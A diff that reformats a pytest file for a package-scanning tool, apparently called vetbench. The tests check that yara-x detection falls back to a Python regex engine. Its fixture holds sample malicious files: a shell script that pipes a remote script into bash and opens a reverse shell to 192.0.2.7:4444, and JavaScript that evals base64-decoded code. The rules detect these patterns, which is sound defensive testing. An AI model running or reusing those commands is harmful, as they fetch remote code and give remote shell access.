@@ -31,7 +31,10 @@ FILES = {
     "tools/install.sh": b"#!/bin/sh\ncurl -fsSL http://192.0.2.7/i.sh | bash\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n",
     "web/run.js": b"const cp = require('child_process');\neval(atob('YWxlcnQoMSk='));\n",
 }
-RULES = [AtomRule("curl", ("curl",), r"curl\s{1,5}-\w{1,9}"), AtomRule("eval", ("eval",), r"eval\s{0,3}\(")]
+RULES = [
+    AtomRule("curl", ("curl",), r"curl\s{1,5}-\w{1,9}"),
+    AtomRule("eval", ("eval",), r"eval\s{0,3}\("),
+]
 
 
 @pytest.fixture
@@ -61,13 +64,20 @@ def _by_re(package, monkeypatch) -> set[tuple[str, str, int]]:
         by_re = _capabilities(scan_artifact(open_artifact(package)))
     by_yara = _capabilities(scan_artifact(open_artifact(package)))
     assert by_re <= by_yara and {c[1:] for c in by_re} == {c[1:] for c in by_yara}
-    assert {c[0] for c in by_re} >= {"process.shell_download", "net.reverse_shell", "exec.decode_then_exec"}
+    assert {c[0] for c in by_re} >= {
+        "process.shell_download",
+        "net.reverse_shell",
+        "exec.decode_then_exec",
+    }
     return by_re
 
 
 def _warnings(caplog) -> list[str]:
-    return [r.getMessage() for r in caplog.records
-            if r.name == fallback.__name__ and r.levelno == logging.WARNING]
+    return [
+        r.getMessage()
+        for r in caplog.records
+        if r.name == fallback.__name__ and r.levelno == logging.WARNING
+    ]
 
 
 def test_yara_x_is_the_engine_in_use(package, fresh):
@@ -80,7 +90,9 @@ def test_yara_x_is_the_engine_in_use(package, fresh):
     assert fallback.notes() == []
 
 
-def test_yara_x_not_importable_falls_back_with_a_warning_and_a_note(package, fresh, monkeypatch, caplog):
+def test_yara_x_not_importable_falls_back_with_a_warning_and_a_note(
+    package, fresh, monkeypatch, caplog
+):
     expected = _by_re(package, monkeypatch)
     monkeypatch.setattr(patterns, "_ENGINE", None)
     monkeypatch.setitem(sys.modules, "yara_x", None)  # "import yara_x" raises ImportError
@@ -94,7 +106,9 @@ def test_yara_x_not_importable_falls_back_with_a_warning_and_a_note(package, fre
     assert _warnings(caplog) == result.notes  # twice failed, warned once
 
 
-def test_yara_x_refusing_the_rules_falls_back_with_a_warning_and_a_note(package, fresh, monkeypatch, caplog):
+def test_yara_x_refusing_the_rules_falls_back_with_a_warning_and_a_note(
+    package, fresh, monkeypatch, caplog
+):
     import yara_x
 
     expected = _by_re(package, monkeypatch)
@@ -111,7 +125,8 @@ def test_yara_x_refusing_the_rules_falls_back_with_a_warning_and_a_note(package,
         result = scan_artifact(open_artifact(package))
     assert _capabilities(result) == expected
     assert result.notes == [
-        "yara-x unavailable (error[E014]: invalid regular expression), using the slower re engine"]
+        "yara-x unavailable (error[E014]: invalid regular expression), using the slower re engine"
+    ]
     assert _warnings(caplog) == result.notes
 
 
@@ -147,8 +162,14 @@ def _cli(*argv: str, prelude: str = "", **env: str) -> subprocess.CompletedProce
     code = prelude + "from app.cli import main; raise SystemExit(main(sys.argv[1:]))"
     environ = {k: v for k, v in os.environ.items() if k != "VETBENCH_PATTERN_ENGINE"}
     environ.update(PYTHONPATH=str(REPO), **env)
-    return subprocess.run([sys.executable, "-c", "import sys; " + code, *argv], cwd=REPO, env=environ,
-                          capture_output=True, text=True, timeout=120)
+    return subprocess.run(
+        [sys.executable, "-c", "import sys; " + code, *argv],
+        cwd=REPO,
+        env=environ,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
 
 
 def _findings(stdout: str) -> list[list[dict]]:
@@ -164,9 +185,13 @@ def test_scan_says_once_on_stderr_that_yara_x_is_unavailable(tmp_path, package):
     blocked = _cli(*args, prelude=BLOCK_YARA)
     assert blocked.returncode == 0
     lines = blocked.stderr.splitlines()
-    assert len(lines) == 1 and lines[0].startswith("vetbench: ") and NOTE.match(lines[0][len("vetbench: "):])
+    assert (
+        len(lines) == 1
+        and lines[0].startswith("vetbench: ")
+        and NOTE.match(lines[0][len("vetbench: ") :])
+    )
     docs = [json.loads(line) for line in blocked.stdout.splitlines()]
-    assert [d["notes"] for d in docs] == [[lines[0][len("vetbench: "):]]] * 2
+    assert [d["notes"] for d in docs] == [[lines[0][len("vetbench: ") :]]] * 2
     chosen = _cli(*args, VETBENCH_PATTERN_ENGINE="re")
     assert _findings(blocked.stdout) == _findings(chosen.stdout) != [[], []]
 
